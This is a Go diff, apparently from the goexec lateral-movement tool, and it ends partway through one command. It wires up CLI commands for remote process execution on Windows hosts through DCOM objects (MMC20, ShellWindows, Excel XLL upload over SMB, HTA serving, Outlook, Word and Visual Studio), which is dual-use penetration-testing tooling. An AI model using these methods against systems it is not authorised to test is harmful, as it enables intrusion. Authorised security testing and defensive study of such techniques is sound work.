@@ -1,6 +1,7 @@
 package cmd
 
 import (
+  "bytes"
   "context"
   "fmt"
   "io"
@@ -9,12 +10,23 @@ import (
 
   "github.com/FalconOpsLLC/goexec/pkg/goexec"
   dcomexec "github.com/FalconOpsLLC/goexec/pkg/goexec/dcom"
+  "github.com/FalconOpsLLC/goexec/pkg/goexec/smb"
+  "github.com/google/uuid"
   "github.com/oiweiwei/go-msrpc/ssp/gssapi"
   "github.com/spf13/cobra"
+  "github.com/spf13/pflag"
 )
 
 func dcomCmdInit() {
+  dcomConnectionFlags = newFlagSet("DCOM Connection")
+
+  dcomConnectionFlags.Flags.StringVar(&dcomActivation, "activation", "remote-create", "Object activation `method` (remote-create, remote-activation)")
+  dcomConnectionFlags.Flags.StringVar(&dcomComVersion, "com-version", "", "Use COM `version` (i.e. 5.7) instead of calling ServerAlive2")
+  dcomConnectionFlags.Flags.BoolVar(&dcomNoServerAlive, "no-server-alive", false, "Don't call ServerAlive2 to determine the COM version (assume 5.7)")
+  dcomConnectionFlags.Flags.StringVar(&dcomTransport, "dcom-transport", dcomexec.TransportAuto, "OXID binding `transport` (auto, tcp, np)")
+
   cmdFlags[dcomCmd] = []*flagSet{
+    dcomConnectionFlags,
     defaultAuthFlags,
     defaultLogFlags,
     defaultNetRpcFlags,
@@ -22,10 +34,18 @@ func dcomCmdInit() {
   dcomMmcCmdInit()
   dcomShellWindowsCmdInit()
   dcomShellBrowserWindowCmdInit()
+  dcomShellApplicationCmdInit()
+  dcomInternetExplorerCmdInit()
   dcomHtafileCmdInit()
   dcomExcelCmdInit()
+  dcomOutlookCmdInit()
+  dcomWordCmdInit()
   dcomVisualStudioCmdInit()
+  dcomDispatchCmdInit()
+  dcomScanCmdInit()
+  dcomTypeInfoCmdInit()
 
+  dcomCmd.PersistentFlags().AddFlagSet(dcomConnectionFlags.Flags)
   dcomCmd.PersistentFlags().AddFlagSet(defaultAuthFlags.Flags)
   dcomCmd.PersistentFlags().AddFlagSet(defaultLogFlags.Flags)
   dcomCmd.PersistentFlags().AddFlagSet(defaultNetRpcFlags.Flags)
@@ -33,14 +53,22 @@ func dcomCmdInit() {
     dcomMmcCmd,
     dcomShellWindowsCmd,
     dcomShellBrowserWindowCmd,
+    dcomShellApplicationCmd,
+    dcomInternetExplorerCmd,
     dcomHtafileCmd,
     dcomExcelCmd,
+    dcomOutlookCmd,
+    dcomWordCmd,
     dcomVisualStudioCmd,
+    dcomDispatchCmd,
+    dcomScanCmd,
+    dcomTypeInfoCmd,
   )
 }
 
 func dcomExcelCmdInit() {
   cmdFlags[dcomExcelCmd] = []*flagSet{
+    dcomConnectionFlags,
     defaultAuthFlags,
     defaultLogFlags,
     defaultNetRpcFlags,
@@ -52,12 +80,29 @@ func dcomExcelCmdInit() {
 
 func dcomVisualStudioCmdInit() {
   cmdFlags[dcomVisualStudioCmd] = []*flagSet{
+    dcomConnectionFlags,
     defaultAuthFlags,
     defaultLogFlags,
     defaultNetRpcFlags,
   }
   dcomVisualStudioDteCmdInit()
-  dcomVisualStudioCmd.AddCommand(dcomVisualStudioDteCmd)
+  dcomVisualStudioBuildCmdInit()
+  dcomVisualStudioDebugCmdInit()
+  dcomVisualStudioCmd.AddCommand(dcomVisualStudioDteCmd, dcomVisualStudioBuildCmd, dcomVisualStudioDebugCmd)
+}
+
+// registerVisualStudioFlags registers the flags used to find the Visual Studio installation
+func registerVisualStudioFlags(fs *pflag.FlagSet, vs *dcomexec.DcomVisualStudio) {
+  fs.StringArrayVar(&vs.Clsids, "vs-clsid", nil, "Probe VisualStudio.DTE class `ID` before the detected classes")
+  fs.BoolVar(&vs.NoRegistry, "vs-no-registry", false, "Don't resolve the VisualStudio.DTE class IDs from the remote registry")
+  fs.BoolVar(&dcomVisualStudio2019, "vs-2019", false, "Target Visual Studio 2019")
+
+  if err := fs.MarkHidden("vs-2019"); err != nil {
+    panic(err)
+  }
+  if err := fs.MarkDeprecated("vs-2019", "Visual Studio versions are detected automatically"); err != nil {
+    panic(err)
+  }
 }
 
 func dcomMmcCmdInit() {
@@ -69,6 +114,7 @@ func dcomMmcCmdInit() {
 
   cmdFlags[dcomMmcCmd] = []*flagSet{
     dcomMmcExecFlags,
+    dcomConnectionFlags,
     defaultAuthFlags,
     defaultLogFlags,
     defaultNetRpcFlags,
@@ -83,11 +129,11 @@ func dcomShellWindowsCmdInit() {
   dcomShellWindowsExecFlags := newFlagSet("Execution")
   registerExecutionFlags(dcomShellWindowsExecFlags.Flags)
   registerExecutionOutputFlags(dcomShellWindowsExecFlags.Flags)
-  dcomShellWindowsExecFlags.Flags.StringVar(&dcomShellWindows.WorkingDirectory, "directory", `C:\`, "Working directory `path`")
-  dcomShellWindowsExecFlags.Flags.StringVar(&dcomShellWindows.WindowState, "app-window", "0", "Application window state `ID`")
+  registerShellExecuteFlags(dcomShellWindowsExecFlags.Flags, &dcomShellWindows.ShellExecuteOptions)
 
   cmdFlags[dcomShellWindowsCmd] = []*flagSet{
     dcomShellWindowsExecFlags,
+    dcomConnectionFlags,
     defaultAuthFlags,
     defaultLogFlags,
     defaultNetRpcFlags,
@@ -102,11 +148,11 @@ func dcomShellBrowserWindowCmdInit() {
   dcomShellBrowserWindowExecFlags := newFlagSet("Execution")
   registerExecutionFlags(dcomShellBrowserWindowExecFlags.Flags)
   registerExecutionOutputFlags(dcomShellBrowserWindowExecFlags.Flags)
-  dcomShellBrowserWindowExecFlags.Flags.StringVar(&dcomShellBrowserWindow.WorkingDirectory, "directory", `C:\`, "Working directory `path`")
-  dcomShellBrowserWindowExecFlags.Flags.StringVar(&dcomShellBrowserWindow.WindowState, "app-window", "0", "Application window state `ID`")
+  registerShellExecuteFlags(dcomShellBrowserWindowExecFlags.Flags, &dcomShellBrowserWindow.ShellExecuteOptions)
 
   cmdFlags[dcomShellBrowserWindowCmd] = []*flagSet{
     dcomShellBrowserWindowExecFlags,
+    dcomConnectionFlags,
     defaultAuthFlags,
     defaultLogFlags,
     defaultNetRpcFlags,
@@ -117,16 +163,69 @@ func dcomShellBrowserWindowCmdInit() {
   dcomShellBrowserWindowCmd.MarkFlagsOneRequired("command", "exec")
 }
 
+func dcomShellApplicationCmdInit() {
+  dcomShellApplicationExecFlags := newFlagSet("Execution")
+  registerExecutionFlags(dcomShellApplicationExecFlags.Flags)
+  registerExecutionOutputFlags(dcomShellApplicationExecFlags.Flags)
+  registerShellExecuteFlags(dcomShellApplicationExecFlags.Flags, &dcomShellApplication.ShellExecuteOptions)
+
+  cmdFlags[dcomShellApplicationCmd] = []*flagSet{
+    dcomShellApplicationExecFlags,
+    dcomConnectionFlags,
+    defaultAuthFlags,
+    defaultLogFlags,
+    defaultNetRpcFlags,
+  }
+  dcomShellApplicationCmd.Flags().AddFlagSet(dcomShellApplicationExecFlags.Flags)
+
+  // Constraints
+  dcomShellApplicationCmd.MarkFlagsOneRequired("command", "exec")
+}
+
+func dcomInternetExplorerCmdInit() {
+  dcomInternetExplorerExecFlags := newFlagSet("Execution")
+  registerExecutionFlags(dcomInternetExplorerExecFlags.Flags)
+  registerExecutionOutputFlags(dcomInternetExplorerExecFlags.Flags)
+  registerShellExecuteFlags(dcomInternetExplorerExecFlags.Flags, &dcomInternetExplorer.ShellExecuteOptions)
+  dcomInternetExplorerExecFlags.Flags.StringVar(&dcomInternetExplorer.Folder, "folder", `C:\Windows\System32`, "Open folder `path` in the browser window")
+  dcomInternetExplorerExecFlags.Flags.DurationVar(&dcomInternetExplorer.Timeout, "navigate-timeout", dcomexec.InternetExplorerNavigateTimeout, "Wait `duration` for the folder to open")
+  dcomInternetExplorerExecFlags.Flags.BoolVar(&dcomInternetExplorer.NoTerminate, "no-quit", false, "Don't close the browser window after execution")
+
+  cmdFlags[dcomInternetExplorerCmd] = []*flagSet{
+    dcomInternetExplorerExecFlags,
+    dcomConnectionFlags,
+    defaultAuthFlags,
+    defaultLogFlags,
+    defaultNetRpcFlags,
+  }
+  dcomInternetExplorerCmd.Flags().AddFlagSet(dcomInternetExplorerExecFlags.Flags)
+
+  // Constraints
+  dcomInternetExplorerCmd.MarkFlagsOneRequired("command", "exec")
+}
+
+// registerShellExecuteFlags registers the flags of methods that spawn processes with Shell.ShellExecute
+func registerShellExecuteFlags(fs *pflag.FlagSet, opts *dcomexec.ShellExecuteOptions) {
+  fs.StringVar(&opts.WorkingDirectory, "directory", `C:\`, "Working directory `path`")
+  fs.StringVar(&opts.WindowState, "app-window", "0", "Application window state `ID`")
+  fs.StringVar(&opts.Verb, "verb", "", "ShellExecute `verb` (i.e. open, runas, print)")
+}
+
 func dcomHtafileCmdInit() {
   dcomHtafileExecFlags := newFlagSet("Execution")
   dcomHtafileExecFlags.Flags.StringVarP(&dcomHtafile.Url, "url", "U", "", "Load custom `URL`")
   dcomHtafileExecFlags.Flags.StringVar(&dcomHtafile.Javascript, "js", "", "Execute JavaScript one-liner")
   dcomHtafileExecFlags.Flags.StringVar(&dcomHtafile.Vbscript, "vbs", "", "Execute VBScript one-liner")
+  dcomHtafileExecFlags.Flags.StringVar(&dcomHtafileServe, "serve", "", "Serve HTA `file` from a local HTTP listener")
+  dcomHtafileExecFlags.Flags.StringVar(&dcomHtafileServer.Addr, "serve-addr", "0.0.0.0:8080", "HTTP listen `address` of --serve")
+  dcomHtafileExecFlags.Flags.StringVar(&dcomHtafileServer.Host, "serve-host", "", "Local `host` as reachable from the target (default: listen address)")
+  dcomHtafileExecFlags.Flags.DurationVar(&dcomHtafileServer.Timeout, "serve-timeout", dcomexec.HtaServerDefaultTimeout, "Wait `duration` for the target to fetch the HTA file")
   registerExecutionFlags(dcomHtafileExecFlags.Flags)
   registerExecutionOutputFlags(dcomHtafileExecFlags.Flags)
 
   cmdFlags[dcomHtafileCmd] = []*flagSet{
     dcomHtafileExecFlags,
+    dcomConnectionFlags,
     defaultAuthFlags,
     defaultLogFlags,
     defaultNetRpcFlags,
@@ -134,18 +233,22 @@ func dcomHtafileCmdInit() {
   dcomHtafileCmd.Flags().AddFlagSet(dcomHtafileExecFlags.Flags)
 
   // Constraints
-  dcomHtafileCmd.MarkFlagsOneRequired("command", "exec", "url", "js", "vbs")
+  dcomHtafileCmd.MarkFlagsOneRequired("command", "exec", "url", "js", "vbs", "serve")
+  dcomHtafileCmd.MarkFlagsMutuallyExclusive("url", "js", "vbs", "serve")
+  dcomHtafileCmd.MarkFlagsMutuallyExclusive("command", "exec", "serve")
 }
 
 func dcomExcelMacroCmdInit() {
   dcomExcelMacroExecFlags := newFlagSet("Execution")
   dcomExcelMacroExecFlags.Flags.StringArrayVarP(&dcomExcelMacro.Macros, "macro", "M", nil, "XLM macro `code`")
   dcomExcelMacroExecFlags.Flags.StringVar(&dcomExcelMacro.MacroFile, "macro-file", "", "XLM macro `file`")
+  dcomExcelMacroExecFlags.Flags.BoolVar(&dcomExcelMacro.Sheet, "sheet", false, "Run the macros as one routine from a hidden macro sheet")
   registerExecutionFlags(dcomExcelMacroExecFlags.Flags)
   registerExecutionOutputFlags(dcomExcelMacroExecFlags.Flags)
 
   cmdFlags[dcomExcelMacroCmd] = []*flagSet{
     dcomExcelMacroExecFlags,
+    dcomConnectionFlags,
     defaultAuthFlags,
     defaultLogFlags,
     defaultNetRpcFlags,
@@ -160,7 +263,7 @@ func dcomExcelMacroCmdInit() {
 
 func dcomVisualStudioDteCmdInit() {
   dcomVisualStudioDteVsFlags := newFlagSet("Visual Studio")
-  dcomVisualStudioDteVsFlags.Flags.BoolVar(&dcomVisualStudioDte.Is2019, "vs-2019", false, "Target Visual Studio 2019")
+  registerVisualStudioFlags(dcomVisualStudioDteVsFlags.Flags, &dcomVisualStudioDte.DcomVisualStudio)
   dcomVisualStudioDteVsFlags.Flags.StringVar(&dcomVisualStudioDte.CommandName, "vs-command", "", "Visual Studio DTE command to execute")
   dcomVisualStudioDteVsFlags.Flags.StringVar(&dcomVisualStudioDte.CommandArgs, "vs-args", "", "Visual Studio DTE command arguments")
 
@@ -171,6 +274,7 @@ func dcomVisualStudioDteCmdInit() {
   cmdFlags[dcomVisualStudioDteCmd] = []*flagSet{
     dcomVisualStudioDteVsFlags,
     dcomVisualStudioDteExecFlags,
+    dcomConnectionFlags,
     defaultAuthFlags,
     defaultLogFlags,
     defaultNetRpcFlags,
@@ -184,12 +288,73 @@ func dcomVisualStudioDteCmdInit() {
   dcomVisualStudioDteCmd.MarkFlagsMutuallyExclusive("vs-command", "out")
 }
 
+func dcomVisualStudioBuildCmdInit() {
+  dcomVisualStudioBuildVsFlags := newFlagSet("Visual Studio")
+  registerVisualStudioFlags(dcomVisualStudioBuildVsFlags.Flags, &dcomVisualStudioBuild.DcomVisualStudio)
+  dcomVisualStudioBuildVsFlags.Flags.StringVar(&dcomVisualStudioBuild.Solution, "solution", "", "Solution file `path` on the remote host")
+  dcomVisualStudioBuildVsFlags.Flags.StringVar(&dcomVisualStudioBuild.Project, "project", "", "Project `name` (default: first project of the solution)")
+
+  dcomVisualStudioBuildExecFlags := newFlagSet("Execution")
+  registerExecutionFlags(dcomVisualStudioBuildExecFlags.Flags)
+  registerExecutionOutputFlags(dcomVisualStudioBuildExecFlags.Flags)
+
+  cmdFlags[dcomVisualStudioBuildCmd] = []*flagSet{
+    dcomVisualStudioBuildVsFlags,
+    dcomVisualStudioBuildExecFlags,
+    dcomConnectionFlags,
+    defaultAuthFlags,
+    defaultLogFlags,
+    defaultNetRpcFlags,
+  }
+  dcomVisualStudioBuildCmd.Flags().AddFlagSet(dcomVisualStudioBuildVsFlags.Flags)
+  dcomVisualStudioBuildCmd.Flags().AddFlagSet(dcomVisualStudioBuildExecFlags.Flags)
+
+  // Constraints
+  if err := dcomVisualStudioBuildCmd.MarkFlagRequired("solution"); err != nil {
+    panic(err)
+  }
+  dcomVisualStudioBuildCmd.MarkFlagsOneRequired("command", "exec")
+}
+
+func dcomVisualStudioDebugCmdInit() {
+  dcomVisualStudioDebugVsFlags := newFlagSet("Visual Studio")
+  registerVisualStudioFlags(dcomVisualStudioDebugVsFlags.Flags, &dcomVisualStudioDebug.DcomVisualStudio)
+  dcomVisualStudioDebugVsFlags.Flags.StringVar(&dcomVisualStudioDebug.Solution, "solution", "", "Solution file `path` on the remote host")
+  dcomVisualStudioDebugVsFlags.Flags.StringVar(&dcomVisualStudioDebug.Project, "project", "", "Project `name` (default: first project of the solution)")
+  dcomVisualStudioDebugVsFlags.Flags.DurationVar(&dcomVisualStudioDebug.Timeout, "debug-timeout", dcomexec.VisualStudioDebugTimeout, "Wait `duration` for the debugger to start the program")
+
+  dcomVisualStudioDebugExecFlags := newFlagSet("Execution")
+  registerExecutionFlags(dcomVisualStudioDebugExecFlags.Flags)
+  registerExecutionOutputFlags(dcomVisualStudioDebugExecFlags.Flags)
+  dcomVisualStudioDebugExecFlags.Flags.StringVar(&dcomVisualStudioDebug.WorkingDirectory, "directory", `C:\`, "Working directory `path`")
+
+  cmdFlags[dcomVisualStudioDebugCmd] = []*flagSet{
+    dcomVisualStudioDebugVsFlags,
+    dcomVisualStudioDebugExecFlags,
+    dcomConnectionFlags,
+    defaultAuthFlags,
+    defaultLogFlags,
+    defaultNetRpcFlags,
+  }
+  dcomVisualStudioDebugCmd.Flags().AddFlagSet(dcomVisualStudioDebugVsFlags.Flags)
+  dcomVisualStudioDebugCmd.Flags().AddFlagSet(dcomVisualStudioDebugExecFlags.Flags)
+
+  // Constraints
+  if err := dcomVisualStudioDebugCmd.MarkFlagRequired("solution"); err != nil {
+    panic(err)
+  }
+  dcomVisualStudioDebugCmd.MarkFlagsOneRequired("command", "exec")
+}
+
 func dcomExcelXllCmdInit() {
   dcomExcelXllExecFlags := newFlagSet("Execution")
   dcomExcelXllExecFlags.Flags.StringVar(&dcomExcelXll.XllLocation, "xll", "", "XLL/DLL local or UNC `path`")
+  dcomExcelXllExecFlags.Flags.StringVar(&dcomExcelXllUpload, "upload", "", "Upload local XLL/DLL `file` to --xll (default C:\\Windows\\Temp\\<random>.xll) over SMB")
+  dcomExcelXllExecFlags.Flags.BoolVar(&dcomExcelXllNoDelete, "no-delete", false, "Preserve the uploaded XLL/DLL on the remote filesystem")
 
   cmdFlags[dcomExcelXllCmd] = []*flagSet{
     dcomExcelXllExecFlags,
+    dcomConnectionFlags,
     defaultAuthFlags,
     defaultLogFlags,
     defaultNetRpcFlags,
@@ -197,25 +362,193 @@ func dcomExcelXllCmdInit() {
   dcomExcelXllCmd.Flags().AddFlagSet(dcomExcelXllExecFlags.Flags)
 
   // Constraints
-  if err := dcomExcelXllCmd.MarkFlagRequired("xll"); err != nil {
+  dcomExcelXllCmd.MarkFlagsOneRequired("xll", "upload")
+}
+
+func dcomOutlookCmdInit() {
+  dcomOutlookExecFlags := newFlagSet("Execution")
+  registerExecutionFlags(dcomOutlookExecFlags.Flags)
+  registerExecutionOutputFlags(dcomOutlookExecFlags.Flags)
+  dcomOutlookExecFlags.Flags.Int32Var(&dcomOutlook.WindowStyle, "window-style", 0, "WScript.Shell Run window style `ID`")
+  dcomOutlookExecFlags.Flags.BoolVar(&dcomOutlook.NoTerminate, "no-quit", false, "Don't terminate Outlook after execution")
+
+  cmdFlags[dcomOutlookCmd] = []*flagSet{
+    dcomOutlookExecFlags,
+    dcomConnectionFlags,
+    defaultAuthFlags,
+    defaultLogFlags,
+    defaultNetRpcFlags,
+  }
+  dcomOutlookCmd.Flags().AddFlagSet(dcomOutlookExecFlags.Flags)
+
+  // Constraints
+  dcomOutlookCmd.MarkFlagsOneRequired("command", "exec")
+}
+
+func dcomWordCmdInit() {
+  dcomWordExecFlags := newFlagSet("Execution")
+  dcomWordExecFlags.Flags.StringVar(&dcomWordMacro.Document, "document", "", "Open document local or UNC `path` before running the macro")
+  dcomWordExecFlags.Flags.StringVarP(&dcomWordMacro.Macro, "macro", "M", "", "Run macro `name` (i.e. Module1.Main)")
+  dcomWordExecFlags.Flags.StringArrayVar(&dcomWordMacro.Args, "arg", nil, "Typed macro `argument` (i.e. str:cmd.exe, int:7, bool:true)")
+  dcomWordExecFlags.Flags.BoolVar(&dcomWordMacro.NoTerminate, "no-quit", false, "Don't terminate Word after execution")
+
+  cmdFlags[dcomWordCmd] = []*flagSet{
+    dcomWordExecFlags,
+    dcomConnectionFlags,
+    defaultAuthFlags,
+    defaultLogFlags,
+    defaultNetRpcFlags,
+  }
+  dcomWordCmd.Flags().AddFlagSet(dcomWordExecFlags.Flags)
+
+  // Constraints
+  dcomWordCmd.MarkFlagsOneRequired("document", "macro")
+}
+
+func dcomDispatchCmdInit() {
+  dcomDispatchFlags := newFlagSet("Dispatch")
+  dcomDispatchFlags.Flags.StringVar(&dcomDispatch.Clsid, "clsid", "", "Class ID (`GUID`) of the DCOM object")
+  dcomDispatchFlags.Flags.StringVar(&dcomDispatchCall, "call", "", "Call method `member` (i.e. Document.ActiveView.ExecuteShellCommand)")
+  dcomDispatchFlags.Flags.StringVar(&dcomDispatchGet, "get", "", "Get the value of property `member`")
+  dcomDispatchFlags.Flags.StringVar(&dcomDispatchPut, "put", "", "Set the value of property `member` to --arg")
+  dcomDispatchFlags.Flags.StringArrayVar(&dcomDispatch.Args, "arg", nil, "Typed `argument` (i.e. str:cmd.exe, int:7, bool:true, null, get:Document)")
+
+  cmdFlags[dcomDispatchCmd] = []*flagSet{
+    dcomDispatchFlags,
+    dcomConnectionFlags,
+    defaultAuthFlags,
+    defaultLogFlags,
+    defaultNetRpcFlags,
+  }
+  dcomDispatchCmd.Flags().AddFlagSet(dcomDispatchFlags.Flags)
+
+  // Constraints
+  if err := dcomDispatchCmd.MarkFlagRequired("clsid"); err != nil {
     panic(err)
   }
+  dcomDispatchCmd.MarkFlagsOneRequired("call", "get", "put")
+  dcomDispatchCmd.MarkFlagsMutuallyExclusive("call", "get", "put")
+}
+
+func dcomScanCmdInit() {
+  dcomScanFlags := newFlagSet("Scan")
+  dcomScanFlags.Flags.StringArrayVar(&dcomScan.Classes, "class", nil, "Additional class ID to scan, optionally named (i.e. `Name=CLSID`)")
+  dcomScanFlags.Flags.BoolVar(&dcomScan.NoKnown, "no-known", false, "Only scan the classes provided with --class")
+  dcomScanFlags.Flags.BoolVar(&dcomScan.NoRegistry, "no-registry", false, "Don't resolve the VisualStudio.DTE class IDs from the remote registry")
+  dcomScanFlags.Flags.StringVarP(&dcomScan.Format, "format", "f", dcomexec.ScanFormatTable, `Output format ("json" or "table")`)
+
+  cmdFlags[dcomScanCmd] = []*flagSet{
+    dcomScanFlags,
+    dcomConnectionFlags,
+    defaultAuthFlags,
+    defaultLogFlags,
+    defaultNetRpcFlags,
+  }
+  dcomScanCmd.Flags().AddFlagSet(dcomScanFlags.Flags)
+}
+
+func dcomTypeInfoCmdInit() {
+  dcomTypeInfoFlags := newFlagSet("Type Information")
+  dcomTypeInfoFlags.Flags.StringVar(&dcomTypeInfo.Clsid, "clsid", "", "Class ID (`GUID`) of the DCOM object")
+  dcomTypeInfoFlags.Flags.StringVar(&dcomTypeInfo.Path, "path", "", "Describe the object returned by property `path` (i.e. Document.ActiveView)")
+  dcomTypeInfoFlags.Flags.StringVarP(&dcomTypeInfo.Format, "format", "f", dcomexec.TypeInfoFormatText, `Output format ("text" or "json")`)
+
+  cmdFlags[dcomTypeInfoCmd] = []*flagSet{
+    dcomTypeInfoFlags,
+    dcomConnectionFlags,
+    defaultAuthFlags,
+    defaultLogFlags,
+    defaultNetRpcFlags,
+  }
+  dcomTypeInfoCmd.Flags().AddFlagSet(dcomTypeInfoFlags.Flags)
+
+  // Constraints
+  if err := dcomTypeInfoCmd.MarkFlagRequired("clsid"); err != nil {
+    panic(err)
+  }
+}
+
+// argsDcomConnection validates the shared DCOM connection flags
+func argsDcomConnection(*cobra.Command, []string) (err error) {
+  if _, ok := dcomActivationMethods[dcomActivation]; !ok {
+    return fmt.Errorf("parse activation: %q doesn't match any accepted values: remote-create, remote-activation", dcomActivation)
+  }
+  if dcomComVersion != "" {
+    if _, err = dcomexec.ParseComVersion(dcomComVersion); err != nil {
+      return fmt.Errorf("parse com-version: %w", err)
+    }
+  }
+  if err = argsAcceptValues("dcom-transport", &dcomTransport, dcomexec.Transports...)(nil, nil); err != nil {
+    return
+  }
+  if dcomTransport == dcomexec.TransportNP && rpcClient.Endpoint == "" && rpcClient.Filter == "" {
+    // Reach the object resolver over SMB as well, so only 445/tcp is required
+    rpcClient.Endpoint, rpcClient.UseEpm = dcomexec.NamedPipeEndpoint, false
+    return rpcClient.Parse(context.TODO())
+  }
+  return
+}
+
+// dcomContext returns a security context carrying the shared DCOM connection options
+func dcomContext() context.Context {
+  ctx := gssapi.NewSecurityContext(context.Background())
+  ctx = dcomexec.WithCreateInstanceMethod(ctx, dcomActivationMethods[dcomActivation])
+
+  if ver, err := dcomexec.ParseComVersion(dcomComVersion); err == nil {
+    ctx = dcomexec.WithComVersion(ctx, ver)
+  }
+  if dcomNoServerAlive {
+    ctx = dcomexec.WithGetComVersion(ctx, false)
+  }
+  return dcomexec.WithTransport(ctx, dcomTransport)
 }
 
 var (
+  dcomActivation      string
+  dcomComVersion      string
+  dcomNoServerAlive   bool
+  dcomTransport       string
+  dcomConnectionFlags *flagSet
+
+  dcomActivationMethods = map[string]string{
+    "remote-create":     dcomexec.OptRemoteCreateInstance,
+    "remote-activation": dcomexec.OptRemoteActivation,
+  }
+
+  dcomDispatchCall string
+  dcomDispatchGet  string
+  dcomDispatchPut  string
+  dcomHtafileServe string
+
+  dcomExcelXllUpload   string
+  dcomExcelXllNoDelete bool
+  dcomVisualStudio2019 bool
+
   dcomMmc                = dcomexec.DcomMmc{}
   dcomShellWindows       = dcomexec.DcomShellWindows{}
   dcomShellBrowserWindow = dcomexec.DcomShellBrowserWindow{}
+  dcomShellApplication   = dcomexec.DcomShellApplication{}
+  dcomInternetExplorer   = dcomexec.DcomInternetExplorer{}
   dcomHtafile            = dcomexec.DcomHtafile{}
+  dcomHtafileServer      = dcomexec.HtaServer{}
   dcomExcelMacro         = dcomexec.DcomExcelMacro{}
   dcomExcelXll           = dcomexec.DcomExcelXll{}
+  dcomOutlook            = dcomexec.DcomOutlook{}
+  dcomWordMacro          = dcomexec.DcomWordMacro{}
   dcomVisualStudioDte    = dcomexec.DcomVisualStudioDte{}
+  dcomVisualStudioBuild  = dcomexec.DcomVisualStudioBuild{}
+  dcomVisualStudioDebug  = dcomexec.DcomVisualStudioDebug{}
+  dcomDispatch           = dcomexec.DcomDispatch{}
+  dcomScan               = dcomexec.DcomScan{}
+  dcomTypeInfo           = dcomexec.DcomTypeInfo{}
 
   dcomCmd = &cobra.Command{
     Use:   "dcom",
     Short: "Execute with Distributed Component Object Model (MS-DCOM)",
     Long: `Description:
-  The dcom module uses exposed Distributed Component Object Model (DCOM) objects to spawn processes.`,
+  The dcom module uses exposed Distributed Component Object Model (DCOM) objects to spawn processes.
+  Use --dcom-transport np when only SMB (445/tcp) is reachable; the object
+  resolver and the activated object are then both reached over named pipes.`,
     GroupID: "module",
     Args:    cobra.ArbitraryArgs,
   }
@@ -240,14 +573,14 @@ var (
     Long: `Description:
   The mmc method uses the exposed MMC20.Application object to call Document.ActiveView.ShellExec,
   and ultimately spawn a process on the remote host.`,
-    Args: args(argsRpcClient("cifs", ""),
+    Args: args(argsRpcClient("cifs", ""), argsDcomConnection,
       argsOutput("smb"),
       argsAcceptValues("window", &dcomMmc.WindowState, "Minimized", "Maximized", "Restored"),
     ),
     Run: func(cmd *cobra.Command, args []string) {
       dcomMmc.Client = &rpcClient
       ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodMmc).
-        Logger().WithContext(gssapi.NewSecurityContext(context.Background()))
+        Logger().WithContext(dcomContext())
 
       if err := goexec.ExecuteCleanMethod(ctx, &dcomMmc, &exec); err != nil {
         log.Fatal().Err(err).Msg("Operation failed")
@@ -261,14 +594,14 @@ var (
     Long: `Description:
   The shellwindows method uses the exposed ShellWindows DCOM object on older Windows installations
   to call Item().Document.Application.ShellExecute, and spawn the provided process.`,
-    Args: args(argsRpcClient("host", ""),
+    Args: args(argsRpcClient("host", ""), argsDcomConnection,
       argsOutput("smb"),
-      argsAcceptValues("app-window", &dcomShellWindows.WindowState, "0", "1", "2", "3", "4", "5", "7", "10"),
+      argsAcceptValues("app-window", &dcomShellWindows.WindowState, dcomexec.ShellWindowStates...),
     ),
     Run: func(cmd *cobra.Command, args []string) {
       dcomShellWindows.Client = &rpcClient
       ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodShellWindows).
-        Logger().WithContext(gssapi.NewSecurityContext(context.Background()))
+        Logger().WithContext(dcomContext())
 
       if err := goexec.ExecuteCleanMethod(ctx, &dcomShellWindows, &exec); err != nil {
         log.Fatal().Err(err).Msg("Operation failed")
@@ -282,14 +615,14 @@ var (
     Long: `Description:
   The shellbrowserwindow method uses the exposed ShellBrowserWindow DCOM object on older Windows installations
   to call Document.Application.ShellExecute, and spawn the provided process.`,
-    Args: args(argsRpcClient("host", ""),
+    Args: args(argsRpcClient("host", ""), argsDcomConnection,
       argsOutput("smb"),
-      argsAcceptValues("app-window", &dcomShellBrowserWindow.WindowState, "0", "1", "2", "3", "4", "5", "7", "10"),
+      argsAcceptValues("app-window", &dcomShellBrowserWindow.WindowState, dcomexec.ShellWindowStates...),
     ),
     Run: func(cmd *cobra.Command, args []string) {
       dcomShellBrowserWindow.Client = &rpcClient
       ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodShellBrowserWindow).
-        Logger().WithContext(gssapi.NewSecurityContext(context.Background()))
+        Logger().WithContext(dcomContext())
 
       if err := goexec.ExecuteCleanMethod(ctx, &dcomShellBrowserWindow, &exec); err != nil {
         log.Fatal().Err(err).Msg("Operation failed")
@@ -297,22 +630,76 @@ var (
     },
   }
 
+  dcomShellApplicationCmd = &cobra.Command{
+    Use:   "shellapplication [target]",
+    Short: "Execute with the Shell.Application DCOM object",
+    Long: `Description:
+  The shellapplication method uses the exposed Shell.Application DCOM object to call ShellExecute,
+  and spawn the provided process with the provided verb (--verb).`,
+    Args: args(argsRpcClient("host", ""), argsDcomConnection,
+      argsOutput("smb"),
+      argsAcceptValues("app-window", &dcomShellApplication.WindowState, dcomexec.ShellWindowStates...),
+    ),
+    Run: func(cmd *cobra.Command, args []string) {
+      dcomShellApplication.Client = &rpcClient
+      ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodShellApplication).
+        Logger().WithContext(dcomContext())
+
+      if err := goexec.ExecuteCleanMethod(ctx, &dcomShellApplication, &exec); err != nil {
+        log.Fatal().Err(err).Msg("Operation failed")
+      }
+    },
+  }
+
+  dcomInternetExplorerCmd = &cobra.Command{
+    Use:   "internetexplorer [target]",
+    Short: "Execute with the InternetExplorer.Application DCOM object",
+    Long: `Description:
+  The internetexplorer method uses the exposed InternetExplorer.Application DCOM object to open a folder
+  (--folder) in a new browser window, then calls Document.Application.ShellExecute to spawn the provided
+  process. Unlike the shellwindows and shellbrowserwindow methods, it doesn't depend on an existing
+  Explorer window.`,
+    Args: args(argsRpcClient("host", ""), argsDcomConnection,
+      argsOutput("smb"),
+      argsAcceptValues("app-window", &dcomInternetExplorer.WindowState, dcomexec.ShellWindowStates...),
+    ),
+    Run: func(cmd *cobra.Command, args []string) {
+      dcomInternetExplorer.Client = &rpcClient
+      ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodInternetExplorer).
+        Logger().WithContext(dcomContext())
+
+      if err := goexec.ExecuteCleanMethod(ctx, &dcomInternetExplorer, &exec); err != nil {
+        log.Fatal().Err(err).Msg("Operation failed")
+      }
+    },
+  }
+
   dcomHtafileCmd = &cobra.Command{
     Use:   "htafile [target]",
     Short: "Execute with the HTAFile DCOM object",
